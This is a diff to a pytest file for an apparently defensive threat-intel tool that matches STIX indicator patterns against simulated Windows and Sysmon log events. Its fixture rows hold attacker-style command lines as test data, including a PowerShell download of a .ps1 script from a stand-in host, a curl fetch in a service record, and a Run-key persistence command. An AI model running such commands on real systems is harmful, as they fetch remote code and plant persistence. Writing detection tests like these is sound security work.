@@ -7,6 +7,7 @@ from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
@@ -14,7 +15,7 @@ from graphcorr.case.folder import open_case
 from graphcorr.case.reading import read_inputs
 from graphcorr.graph.project import project
 from graphcorr.graph.tables import find_nodes
-from graphcorr.intel.enrichment import EXAMPLES, summarize_sightings, write_sightings
+from graphcorr.intel.enrichment import EXAMPLES, summarize_outdated, summarize_sightings, write_sightings
 from graphcorr.intel.indicators import read_patterns
 from graphcorr.intel.knowledge import read_knowledge
 from graphcorr.intel.library import Library
@@ -26,23 +27,54 @@ from graphcorr.resolve.database import Database, connect
 from graphcorr.simulate.demo import write_demo
 
 NOON = datetime(2025, 1, 1, 12, tzinfo=UTC)
-EVENTS = """
-CREATE TABLE events AS SELECT * FROM (VALUES
-    ('e1', '10.0.0.1', '10.0.0.2', NULL, NULL, NULL, NULL, NULL, 'C:\\W\\Evil.exe', 'cmd /c "C:\\W\\Evil.exe" http://Bad.example:80/x/ ',
-        'SHA1=AA,MD5=BB', NULL),
-    ('e2', NULL, '10.0.0.3', 'www.bad.example', NULL, '\\??\\C:\\W\\evil.exe', NULL, NULL, NULL,
-        'reg add HKLM\\Software\\Run /v x', NULL, NULL),
-    ('e3', NULL, NULL, 'mail.example.', 'srv.bad.example', NULL, 'tools/evil.exe', NULL, NULL, NULL,
-        'SHA256=cc,MD5=bb', ['10.9.9.9', 'cname.example'])
-) t(id, source_address, target_address, query, target_host, path, relative_path, previous_path, image, command_line, hashes, answers)
-CROSS JOIN (SELECT TIMESTAMP '2025-01-01 12:00:00' AS time)
-"""
+ZONE = (
+    b'{"EventID":15,"TargetFilename":"x.exe","Contents":"[ZoneTransfer]  ZoneId=3  ReferrerUrl=https:\\/\\/Page.example\\/a  '
+    b'HostUrl=http://Files.example/get?a=1&amp;b=2\\r\\n","Other":"http://other.example/"}'
+)
+"""As a record of Sysmon 15 stands in a log; its URLs stand in the text of the stream alone."""
+COLUMNS = (
+    *("id", "source_address", "target_address", "query", "target_host", "path", "relative_path", "previous_path", "image", "command_line"),
+    *("parent_command_line", "hashes", "answers", "log", "raw"),
+)
+ROWS: dict[str, dict[str, object]] = {
+    "e1": {
+        "source_address": "10.0.0.1",
+        "target_address": "10.0.0.2",
+        "image": "C:\\W\\Evil.exe",
+        "command_line": 'cmd /c "C:\\W\\Evil.exe" http://Bad.example:80/x/ ',
+        "hashes": "SHA1=AA,MD5=BB",
+    },
+    "e2": {
+        "target_address": "10.0.0.3",
+        "query": "www.bad.example",
+        "path": "\\??\\C:\\W\\evil.exe",
+        "command_line": "reg add HKLM\\Software\\Run /v x",
+    },
+    "e3": {
+        "query": "mail.example.",
+        "target_host": "srv.bad.example",
+        "relative_path": "tools/evil.exe",
+        "hashes": "SHA256=cc,MD5=bb",
+        "answers": ["10.9.9.9", "cname.example"],
+    },
+    "e4": {
+        "command_line": "powershell -c \"New-Item -Path 'HKCU:\\Software\\A B\\C'; iwr http://user@10.7.7.7:8080/a.ps1, 'x'\"",
+        "parent_command_line": 'cmd /c reg query "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" & rem http://parent.example/p',
+    },
+    "e5": {"log": "system-7045", "path": "cmd.exe /c reg import Registry::HKLM\\System\\Svc & curl http://[2001:db8::1]/svc"},
+    "e6": {"log": "sysmon-11", "path": "C:\\cmd http://path.example/ HKLM\\Not\\This"},
+    "e7": {"log": "sysmon-15", "path": "C:\\x.exe", "raw": ZONE},
+}
 
 
 @pytest.fixture
 def database(tmp_path: Path) -> Iterator[Database]:
     made = connect(tmp_path)
-    made.execute(EVENTS)
+    columns: dict[str, list[object]] = {name: [id_ if name == "id" else row.get(name) for id_, row in ROWS.items()] for name in COLUMNS}
+    types = {"answers": pa.list_(pa.string()), "raw": pa.binary()}
+    made.register("given", pa.table({name: pa.array(values, types.get(name, pa.string())) for name, values in columns.items()}))
+    made.execute("CREATE TABLE events AS SELECT *, TIMESTAMP '2025-01-01 12:00:00' AS time FROM given")
+    made.unregister("given")
     yield made
     made.close()
 
@@ -54,6 +86,10 @@ def find(database: Database, *patterns: str, since: datetime | None = None, unti
     load_terms(database, terms, ((f"i{n}", first, last) for n in range(len(patterns))))
     match_terms(database)
     return sorted(database.execute("SELECT indicator, event, value FROM sightings").fetchall())
+
+
+def outdated(database: Database) -> list[tuple[str, str, str]]:
+    return sorted(database.execute("SELECT indicator, event, value FROM outdated").fetchall())
 
 
 @pytest.mark.parametrize(
@@ -78,6 +114,22 @@ def find(database: Database, *patterns: str, since: datetime | None = None, unti
         ("[file:hashes.'SHA-256' = 'aa']", []),
         ("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run']", ["e2"]),
         ("[windows-registry-key:key = 'HKCU\\\\Software\\\\Run']", []),
+        ("[url:value = 'http://user@10.7.7.7:8080/A.ps1']", ["e4"]),
+        ("[ipv4-addr:value = '10.7.7.7']", ["e4"]),
+        ("[url:value = 'http://parent.example/p']", ["e4"]),
+        ("[domain-name:value = 'parent.example']", ["e4"]),
+        ("[ipv6-addr:value = '2001:db8:0::1']", ["e5"]),
+        ("[url:value = 'http://path.example/']", []),
+        ("[url:value = 'https://page.example/a']", ["e7"]),
+        ("[url:value = 'http://files.example/get?a=1&b=2']", ["e7"]),
+        ("[domain-name:value = 'files.example']", ["e7"]),
+        ("[url:value = 'http://other.example/']", []),
+        ("[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\A B\\\\C']", ["e4"]),
+        ("[windows-registry-key:key = 'HKLM\\\\software\\\\microsoft\\\\windows nt\\\\currentversion']", ["e4"]),
+        ("[windows-registry-key:key = 'HKLM\\\\software\\\\microsoft\\\\windows']", []),
+        ("[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\A']", []),
+        ("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\System\\\\Svc']", ["e5"]),
+        ("[windows-registry-key:key = 'HKLM\\\\Not\\\\This']", []),
         ("[process:command_line = 'reg add hklm\\\\software\\\\run /v x']", ["e2"]),
     ],
 )
@@ -108,9 +160,21 @@ def test_or_holds_with_one(database: Database) -> None:
 def test_validity_begins_at_its_start_and_ends_before_its_end(database: Database) -> None:
     pattern = "[ipv4-addr:value = '10.0.0.1']"
     later = NOON.replace(second=1)
-    assert len(find(database, pattern, since=NOON, until=later)) == 1
-    assert find(database, pattern, since=later) == []
-    assert find(database, pattern, until=NOON) == []
+    seen = [("i0", "e1", "10.0.0.1")]
+    assert (find(database, pattern, since=NOON, until=later), outdated(database)) == (seen, [])
+    assert (find(database, pattern, since=later), outdated(database)) == ([], seen)
+    assert (find(database, pattern, until=NOON), outdated(database)) == ([], seen)
+    assert (find(database, "[ipv4-addr:value = '10.0.0.9']", until=NOON), outdated(database)) == ([], [])
+
+
+def test_what_does_not_hold_is_not_outdated_either(database: Database) -> None:
+    """Half of a pattern would not have been a sighting in its time."""
+    half = "[ipv4-addr:value = '10.0.0.1'] AND [domain-name:value = 'none.example']"
+    assert (find(database, half, until=NOON), outdated(database)) == ([], [])
+    database.execute("UPDATE events SET time = TIMESTAMP '2025-01-01 11:00:00' WHERE id = 'e1'")
+    both = "[ipv4-addr:value = '10.0.0.1'] AND [domain-name:value = 'mail.example']"
+    # One of the two events lies in its time, and without the other one it is no sighting.
+    assert (find(database, both, until=NOON), outdated(database)) == ([], [("i0", "e3", "mail.example")])
 
 
 def test_no_indicators(database: Database) -> None:
@@ -162,6 +226,9 @@ def test_indicators_meet_a_case(tmp_path: Path) -> None:
         assert (sighted.indicator, sighted.observable, sighted.value) == (objects[0]["id"], "file_name", name)
         assert sighted.count >= count > 0
         assert len(sighted.examples) == min(sighted.count, EXAMPLES)
+        [late] = summarize_outdated(database, knowledge)
+        assert (late.indicator, late.value, late.valid_until) == (objects[3]["id"], name, "2000-01-02T00:00:00.000000Z")
+        assert (late.count, late.first, late.examples) == (sighted.count, sighted.first, sighted.examples)
         assert [(one.indicator, one.reason) for one in unevaluated] == [(objects[2]["id"], "the operator LIKE is not evaluated")]
         write_sightings(database, tmp_path / "tables")
         edges = {path.stem: pq.read_table(path).to_pylist() for path in (tmp_path / "tables" / "edges").iterdir()}
